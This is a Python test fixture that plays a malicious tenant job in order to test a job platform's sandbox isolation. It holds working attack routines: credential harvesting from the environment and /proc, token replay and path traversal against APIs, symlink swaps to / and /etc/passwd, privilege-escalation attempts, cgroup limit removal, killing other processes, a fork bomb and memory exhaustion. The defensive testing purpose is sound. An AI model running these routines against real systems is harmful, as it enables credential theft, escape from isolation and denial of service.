"""A hostile job (tests/faults/test_hostile_jobs.py): it tries everything a careless or malicious member's job
might, and prints one line per attempt, `try <what> <target> -> <outcome>`. Standard library only.

    hostile_job.py env                      print the whole environment it was given
    hostile_job.py read PATH...             read each file, list each folder
    hostile_job.py creds CONSOLE_URL ID...  use every credential it can find against the agent and user APIs,
                                            and its own job token against other jobs' records and artifacts
    hostile_job.py swap                     swap its artifact folder for a link; plant links in it
    hostile_job.py replicas CONSOLE_URL     find listening ports on this host and call each as a replica
    hostile_job.py whoami                   its uid, capabilities, device nodes and network interfaces; then
                                            the privileged calls it tries (setuid 0, mknod, chroot, mount)
    hostile_job.py signal PID...            SIGKILL each process (another job's)
    hostile_job.py forkbomb                 fork without end; report how far it got
    hostile_job.py hog GB                   allocate and touch GB of memory
    hostile_job.py secret TEXT SECONDS      a victim: leave TEXT in its home, outputs and log, then sleep

Commands chain: `hostile_job.py env -- read A B -- swap` runs the three in turn.
"""

from __future__ import annotations

import contextlib
import ctypes
import http.client
import json
import os
import re
import signal
import socket
import stat
import sys
import time
import urllib.error
import urllib.request


def say(what: str, target: str, outcome: str) -> None:
    print(f"try {what} {target} -> {outcome}", flush=True)


def env() -> None:
    for name, value in sorted(os.environ.items()):
        print(f"env {name}={value}", flush=True)


def read(paths: list[str]) -> None:
    for path in paths:
        try:
            if os.path.isdir(path):
                outcome = f"listed {sorted(os.listdir(path))}"
            else:
                with open(path, "rb") as handle:
                    outcome = f"read {handle.read(4096)!r}"
        except OSError as exc:
            outcome = type(exc).__name__
        say("read", path, outcome)


def call(method: str, url: str, token: str | None = None, scheme: str = "Bearer", body: bytes | None = None,
         headers: dict[str, str] | None = None) -> str:
    request = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    if token is not None:
        request.add_header("Authorization", f"{scheme} {token}")
    if body is not None:
        request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return f"{response.status} {response.read(2000)!r}"
    except urllib.error.HTTPError as exc:
        return str(exc.code)
    except (OSError, ValueError, http.client.HTTPException) as exc:  # not HTTP at all: another server
        return type(exc).__name__


def found_credentials() -> dict[str, str]:
    """Every value in the environment, and in files it can read nearby, that looks like a secret."""
    found = {name: value for name, value in os.environ.items()
             if re.search(r"TOKEN|SECRET|PASSWORD|KEY|URL", name) and value}
    for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ"):
        try:
            with open(path, "rb") as handle:
                found[path] = handle.read().decode(errors="replace")
        except OSError:
            pass
    return found


def creds(console: str, others: list[str]) -> None:
    api = console.rstrip("/") + "/api/v1"
    for name, value in found_credentials().items():
        for scheme in ("Host", "Bearer", "Token"):
            say("agent-api", f"{scheme}:{name}", call("POST", f"{api}/agent/heartbeat/", value, scheme, b'{"running": []}'))
            say("user-api", f"{scheme}:{name}", call("GET", f"{api}/jobs/", value, scheme))
    token = os.environ.get("CONSOLE_JOB_TOKEN", "")
    say("own-job", "job-api", call("GET", f"{api}/job/", token, "Job"))
    say("own-progress", "job-api", call("POST", f"{api}/job/progress/", token, "Job", b'{"step": 3}'))
    for other in others:
        say("other-job", other, call("GET", f"{api}/jobs/{other}/", token, "Job"))
        say("other-artifacts", other, call("GET", f"{api}/jobs/{other}/artifacts/", token, "Job"))
        say("other-artifact-via-own", other,
            call("GET", f"{api}/job/artifacts/..%2F{other}%2Foutputs%2Fsecret.txt", token, "Job"))
        say("other-report", other, call("POST", f"{api}/agent/jobs/{other}/status/", token, "Host",
                                        b'{"state": "failed", "attempt": 1}'))


def swap() -> None:
    outputs = os.environ["CONSOLE_OUTPUT_DIR"]
    with open(os.path.join(outputs, "own.txt"), "w") as handle:
        handle.write("the job's own output\n")
    try:
        os.rename(outputs, outputs + ".moved")
        os.symlink("/", outputs)
        outcome = "swapped"
    except OSError as exc:
        outcome = type(exc).__name__
    say("swap", outputs, outcome)
    for name, target in (("root-link", "/"), ("passwd-link", "/etc/passwd"), ("up-link", "../..")):
        try:
            os.symlink(target, os.path.join(outputs, name))
            say("plant", name, "planted")
        except OSError as exc:
            say("plant", name, type(exc).__name__)


def listening_ports() -> list[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                next(handle)
                for line in handle:
                    fields = line.split()
                    if fields[3] == "0A":  # LISTEN
                        ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    return sorted(ports)


def replicas(console: str) -> None:
    console_port = int(console.rsplit(":", 1)[1].split("/")[0])
    addresses = {"127.0.0.1"}
    with contextlib.suppress(OSError):
        addresses.add(socket.gethostbyname(socket.gethostname()))
    body = json.dumps({"inputs": [[0.0] * 64]}).encode()
    for port in listening_ports():
        if port == console_port:
            continue
        for address in sorted(addresses):
            for path in ("/stats", "/predict"):
                outcome = call("POST" if path == "/predict" else "GET", f"http://{address}:{port}{path}",
                               body=body if path == "/predict" else None)
                say("replica", f"{address}:{port}{path}", outcome)


def whoami() -> None:
    print(f"whoami uid={os.getuid()} euid={os.geteuid()} gid={os.getgid()} groups={sorted(os.getgroups())}",
          flush=True)
    with open("/proc/self/status") as handle:
        for line in handle:
            name, _, value = line.partition(":")
            if name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
                print(f"status {name}={value.strip()}", flush=True)
    devices = []
    for name in sorted(os.listdir("/dev")):
        with contextlib.suppress(OSError):
            mode = os.lstat(os.path.join("/dev", name)).st_mode  # not through /dev/stdin's link
            if stat.S_ISCHR(mode) or stat.S_ISBLK(mode):
                devices.append(name)
    print(f"devices {' '.join(devices)}", flush=True)
    with open("/proc/net/dev") as handle:
        print(f"interfaces {' '.join(sorted(line.split(':')[0].strip() for line in list(handle)[2:]))}", flush=True)
    # Each in a folder of its own (its working folder), harmless even where one succeeds: a node like /dev/null,
    # a tmpfs on a folder it made.
    os.makedirs("probe-mount", exist_ok=True)
    attempts = {
        "setuid": lambda: os.setuid(0),
        "mknod": lambda: os.mknod("probe-null", stat.S_IFCHR | 0o600, os.makedev(1, 3)),
        "chroot": lambda: os.chroot("."),
        "mount": lambda: ctypes.CDLL(None, use_errno=True).mount(b"none", b"probe-mount", b"tmpfs", 0, None) == 0
        or _raise_errno(),
    }
    for what, attempt in attempts.items():
        try:
            attempt()
            say("privileged", what, "done")
        except OSError as exc:
            say("privileged", what, type(exc).__name__)
    # Lift its own limits through whichever cgroup files it can see (v1 or v2).
    for path in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes",
                 "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory.max"):
        if os.path.exists(path):
            try:
                with open(path, "w") as handle:
                    handle.write("max\n" if "pids" in path or path.endswith(".max") else "-1\n")
                say("unlimit", path, "written")
            except OSError as exc:
                say("unlimit", path, type(exc).__name__)


def _raise_errno() -> None:
    number = ctypes.get_errno()
    raise OSError(number, os.strerror(number))


def kill(pids: list[str]) -> None:
    for pid in pids:
        try:
            os.kill(int(pid), signal.SIGKILL)
            outcome = "killed"
        except OSError as exc:
            outcome = type(exc).__name__
        say("signal", pid, outcome)


def forkbomb() -> None:
    children = 0
    started = time.monotonic()
    while time.monotonic() - started < 60:
        try:
            pid = os.fork()
        except OSError as exc:
            say("fork", str(children), type(exc).__name__)
            break
        if pid == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
    else:
        say("fork", str(children), "no limit within 60 s")
    print(f"forkbomb children={children}", flush=True)


def hog(gigabytes: float) -> None:
    blocks = []
    for index in range(int(gigabytes * 16)):  # 64 MiB at a time, each page touched
        blocks.append(bytearray(64 * 1024 * 1024))
        print(f"hog {64 * (index + 1)} MiB", flush=True)
    print("hog survived", flush=True)


def secret(text: str, seconds: float) -> None:
    with open("secret.txt", "w") as handle:
        handle.write(text)
    with open(os.path.join(os.environ["CONSOLE_OUTPUT_DIR"], "secret.txt"), "w") as handle:
        handle.write(text)
    print(f"victim home={os.getcwd()} pid={os.getpid()} {text}", flush=True)
    time.sleep(seconds)


COMMANDS = {
    "env": lambda args: env(),
    "read": read,
    "creds": lambda args: creds(args[0], args[1:]),
    "swap": lambda args: swap(),
    "replicas": lambda args: replicas(args[0]),
    "whoami": lambda args: whoami(),
    "signal": kill,
    "forkbomb": lambda args: forkbomb(),
    "hog": lambda args: hog(float(args[0])),
    "secret": lambda args: secret(args[0], float(args[1])),
}


if __name__ == "__main__":
    # Several commands in one job: `env -- read A B -- swap`.
    words, commands = sys.argv[1:], []
    while words:
        cut = words.index("--") if "--" in words else len(words)
        commands.append(words[:cut])
        words = words[cut + 1:]
    for name, *args in commands:
        if name not in COMMANDS:
            sys.exit(f"unknown command {name}")
        COMMANDS[name](args)
    print("hostile done", flush=True)
